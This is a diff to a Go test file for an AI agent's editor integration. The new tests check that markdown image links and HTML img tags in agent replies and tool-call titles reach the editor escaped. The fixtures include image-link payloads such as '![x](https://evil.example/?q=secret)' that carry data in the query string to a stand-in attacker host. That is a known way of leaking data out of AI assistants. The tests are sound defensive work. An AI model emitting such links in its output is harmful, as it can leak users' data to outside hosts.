@@ -352,7 +352,7 @@ func TestOnePromptAtATime(t *testing.T) {
 func TestLoadReplays(t *testing.T) {
 	h := newHarness(t, nil,
 		agenttest.Tools("Looking.", agenttest.Call{ID: "c1", Name: "read_file", Arguments: `{"path":"a.txt"}`}),
-		agenttest.Text("It says hi.", 4),
+		agenttest.Text("It says hi. ![x](https://evil.example/?q=hi)", 4),
 	)
 	h.write("a.txt", "hi\n")
 	id := h.newSession()
@@ -363,6 +363,7 @@ func TestLoadReplays(t *testing.T) {
 		t.Fatal(err)
 	}
 	var kinds []string
+	var replayed []acptest.Update
 	answered := false
 	for _, m := range h.c.Lines()[before:] {
 		if m.Method == "" && strings.Trim(string(m.ID), `"`) == load {
@@ -373,7 +374,11 @@ func TestLoadReplays(t *testing.T) {
 			var n struct{ Update acptest.Update }
 			_ = json.Unmarshal(m.Params, &n)
 			kinds = append(kinds, n.Update.SessionUpdate+":"+n.Update.Status)
+			replayed = append(replayed, n.Update)
 		}
+	}
+	if got, want := acptest.Text(replayed, "agent_message_chunk"), `Looking.It says hi. \![x](https://evil.example/?q=hi)`; got != want {
+		t.Errorf("replayed the answer as %q, want %q", got, want)
 	}
 	want := []string{"user_message_chunk:", "agent_message_chunk:", "tool_call:pending", "tool_call_update:completed", "agent_message_chunk:"}
 	if !slices.Equal(kinds, want) {
@@ -491,5 +496,36 @@ func TestCheckShows(t *testing.T) {
 	}
 	if check.Title != "check: echo it is broken; exit 1 (round 1 of 1)" || check.Status != "failed" || check.Kind != "execute" || !strings.Contains(string(check.Raw), "it is broken") {
 		t.Errorf("the check showed as %+v %s", check, check.Raw)
+	}
+}
+
+// TestImagesReachTheEditorInert streams an answer whose image links and
+// HTML are cut across chunks: the editor receives them as plain links and
+// literal tags, code as written, a tool call's title inert too, and the
+// "!" held at the end of the answer once the turn ends.
+func TestImagesReachTheEditorInert(t *testing.T) {
+	answer := "Here: ![x](https://evil.example/?q=secret) and `![ok](http://e/)`, <img src=https://evil.example/i>.\n```\n![kept](http://e/)\n```\nDone!"
+	h := newHarness(t, nil,
+		agenttest.Tools("Reading it.", agenttest.Call{ID: "c1", Name: "glob", Arguments: `{"pattern":"![p](https://evil.example/t)"}`}),
+		agenttest.Text(answer, 3),
+	)
+	id := h.newSession()
+	h.prompt(id, say("go"))
+	updates := h.c.Updates()
+	want := "Reading it." + `Here: \![x](https://evil.example/?q=secret) and ` + "`![ok](http://e/)`" + `, \<img src=https://evil.example/i>.` + "\n```\n![kept](http://e/)\n```\nDone!"
+	if got := acptest.Text(updates, "agent_message_chunk"); got != want {
+		t.Errorf("the editor was sent\n%q\nwant\n%q", got, want)
+	}
+	titled := false
+	for _, u := range updates {
+		if strings.Contains(u.Title, "evil.example/t") {
+			titled = true
+			if !strings.Contains(u.Title, `\![p]`) {
+				t.Errorf("a tool call's title reached the editor as %q", u.Title)
+			}
+		}
+	}
+	if !titled {
+		t.Error("no tool call was titled with its pattern")
 	}
 }
